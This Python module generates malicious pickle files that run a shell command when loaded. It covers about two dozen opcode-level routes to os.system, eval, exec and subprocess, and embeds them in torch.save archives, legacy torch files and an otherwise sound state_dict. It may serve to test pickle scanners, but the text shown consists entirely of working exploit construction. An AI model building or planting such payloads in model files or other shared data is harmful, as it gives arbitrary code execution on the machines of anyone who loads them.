"""Pickles that run a shell command when somebody unpickles them, one for each way there is.

Written opcode by opcode, so that each way is met in its pure form. A *body* pushes one value, so
that it can stand inside other pickles; `whole` makes a file of it.
"""

from __future__ import annotations

import io
import pickle
import struct
import zipfile

LEGACY_MAGIC = 0x1950A86A20F9469CFC6C


def text(value: str) -> bytes:
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def name(module: str, attribute: str) -> bytes:
    """GLOBAL: pushes an attribute of a module."""
    return f"c{module}\n{attribute}\n".encode()


def called(module: str, attribute: str, *arguments: bytes) -> bytes:
    """REDUCE: pushes the result of a call."""
    return name(module, attribute) + b"(" + b"".join(arguments) + b"tR"


def whole(body: bytes, protocol: int = 2) -> bytes:
    return b"\x80" + bytes([protocol]) + body + b"."


def shell(command: str) -> bytes:
    """The plainest of them all."""
    return called("os", "system", text(command))


class Evil:
    """For the pickles that Python itself writes, in its own protocols."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[object, ...]:
        import os

        return os.system, (self.command,)


def dumped(command: str) -> dict[int, bytes]:
    """As pickle.dumps writes it, by protocol."""
    protocols = range(pickle.HIGHEST_PROTOCOL + 1)
    return {protocol: pickle.dumps(Evil(command), protocol) for protocol in protocols}


def ways(command: str) -> dict[str, bytes]:
    """A body by the name of its trick."""
    shell, line = text(command), text(f"__import__('os').system({command!r})")
    system, none, empty = name("os", "system"), b"N", b"}"
    run = called("os", "system", shell)
    inner = whole(run)
    counted = b"B" + struct.pack("<I", len(inner)) + inner
    sh = b"](" + text("sh") + text("-c") + shell + b"e"
    mapped = name("builtins", "map")
    os_path = b"cos\npath\n"
    object_array = called(
        "numpy._core.multiarray", "_reconstruct", name("numpy", "ndarray"), b"K\x00\x85", b"C\x01b"
    )
    return {
        "REDUCE os.system": run,
        "REDUCE posix.system": called("posix", "system", shell),
        "REDUCE eval": called("builtins", "eval", line),
        "REDUCE exec": called("builtins", "exec", line),
        "REDUCE eval by its old name": called("__builtin__", "eval", line),
        "REDUCE Popen": called("subprocess", "call", sh),
        "REDUCE timeit": called("timeit", "timeit", line, text("0"), name("time", "time"),
                                b"K\x01"),
        "STACK_GLOBAL": b"\x8c\x02os\x8c\x06system\x93(" + shell + b"tR",
        "INST": b"(" + shell + b"ios\nsystem\n",
        "OBJ": b"(" + system + shell + b"o",
        "NEWOBJ": name("builtins", "bytes") + mapped + system + b"](" + shell
        + b"e\x86\x81\x85\x81",
        "NEWOBJ_EX": name("builtins", "bytes") + mapped + system + b"](" + shell
        + b"e\x86}\x92\x85}\x92",
        "BUILD calls __setstate__": called("functools", "partial", name("builtins", "int"))
        + b"(" + system + b"(" + shell + b"t" + empty + none + b"tb)R",
        "getattr": called("builtins", "getattr", called("builtins", "getattr", os_path, text("os")),
                          text("system")) + b"(" + shell + b"tR",
        "methodcaller": called("operator", "methodcaller", text("system"), shell)
        + b"(" + called("builtins", "__import__", text("os")) + b"tR",
        "a pickle in a pickle": called("pickle", "loads", counted),
        "from the memo": system + b"p900\n0g900\n(" + shell + b"tR",
        "thrown away": run + b"0N",
        "extension registry": called("copyreg", "add_extension", text("os"), text("system"),
                                     b"K\x42")
        + b"0\x82\x42(" + shell + b"tR",
        "in a dictionary": empty + text("a") + run + b"s",
        "numpy's _reconstruct": object_array + b"(K\x01K\x01\x85"
        + called("numpy", "dtype", text("O8"), b"\x89", b"\x88") + b"\x89](" + run + b"etb",
        "torch rebuilds a type": called("torch._tensor", "_rebuild_from_type_v2", system,
                                        name("builtins", "int"), b"(" + shell + b"t", empty),
        "torch loads bytes": called("torch.storage", "_load_from_bytes", counted),
    }  # fmt: skip


def saved(body: bytes, *, folder: str = "archive") -> bytes:
    """A file of torch.save (a zip) whose pickle is this body."""
    raw = io.BytesIO()
    with zipfile.ZipFile(raw, "w") as archive:
        archive.writestr(f"{folder}/data.pkl", whole(body))
        archive.writestr(f"{folder}/byteorder", b"little")
        archive.writestr(f"{folder}/version", b"3\n")
    return raw.getvalue()


def saved_before_zips(body: bytes) -> bytes:
    """The same as torch before 1.6 wrote it: pickles one after the other."""
    head = [pickle.dumps(each, 2) for each in (LEGACY_MAGIC, 1001, {"little_endian": True})]
    return b"".join(head) + whole(body) + pickle.dumps([], 2)


def state_dict_with(body: bytes) -> bytes:
    """A state_dict as torch.save writes it, sound but for one value, which is this body."""
    import torch

    raw, made = io.BytesIO(), io.BytesIO()
    torch.save({"0.weight": torch.zeros(4, 3), "0.bias": "PLACEHOLDER"}, raw)
    with zipfile.ZipFile(raw) as sound, zipfile.ZipFile(made, "w") as evil:
        for name_ in sound.namelist():
            data = sound.read(name_)
            if name_.endswith("data.pkl"):
                assert data.count(text("PLACEHOLDER")) == 1
                data = data.replace(text("PLACEHOLDER"), body)
            evil.writestr(name_, data)
    return made.getvalue()
